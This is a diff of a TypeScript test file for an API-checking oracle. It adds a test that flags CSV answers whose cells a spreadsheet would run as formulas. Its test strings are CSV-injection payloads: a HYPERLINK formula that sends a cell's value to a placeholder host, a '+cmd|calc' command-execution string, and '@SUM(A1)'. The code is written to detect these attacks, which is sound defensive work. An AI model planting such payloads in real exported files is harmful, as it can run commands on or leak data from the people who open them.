@@ -3,7 +3,7 @@ import { z } from 'zod';
 import { caseArb, type Target } from './gen';
 import { applyMutation, BODY_LIMIT, clone, REGEX_BOMBS } from './hostile';
 import { Raw, serialize, withKey } from './json';
-import { checkAnswer } from './oracle';
+import { checkAnswer, formulaCellIn } from './oracle';
 import { causeOf } from './runner';
 import { arbitraryOf, type JsonSchema } from './schema-arb';
 import { fieldsOf, Pools } from './vocab';
@@ -24,6 +24,15 @@ describe('the oracle', () => {
     expect(checkAnswer(answer(400, { error: { code: 1, message: 'x', status: 400 } }), 'POST').map((p) => p.kind)).toEqual(['envelope']);
     expect(checkAnswer(answer(404, 'Cannot POST /x', 'text/html'), 'POST').map((p) => p.kind)).toEqual(['envelope']);
     expect(checkAnswer({ text: '', ms: 10_000, error: 'no answer within 10000 ms' }, 'POST').map((p) => p.kind)).toEqual(['no-answer']);
+  });
+
+  it('flags a CSV answer with a cell a spreadsheet would run as a formula (CSV injection), not a guarded one or a negative number', () => {
+    const csv = (text: string) => answer(200, text, 'text/csv; charset=utf-8');
+    expect(checkAnswer(csv(`name,n\r\n"'=HYPERLINK(""http://x/?""&A1,""c"")",-5\r\n'+cmd|calc,-1.5e-7\r\n"'\r=1",'-\r\n`), 'GET')).toEqual([]);
+    for (const bad of ['"=HYPERLINK(""x"")"', '+cmd|calc', '-2+3', '@SUM(A1)', '\t=1', '"\r=1"', '-']) {
+      expect(checkAnswer(csv(`a,b\r\nx,${bad}\r\n`), 'GET').map((p) => p.kind)).toEqual(['csv-formula']);
+    }
+    expect(formulaCellIn('a,b\r\n"x,=y",z\r\n')).toBeUndefined();
   });
 
   it('flags stack traces, SQL and database error texts in a body', () => {
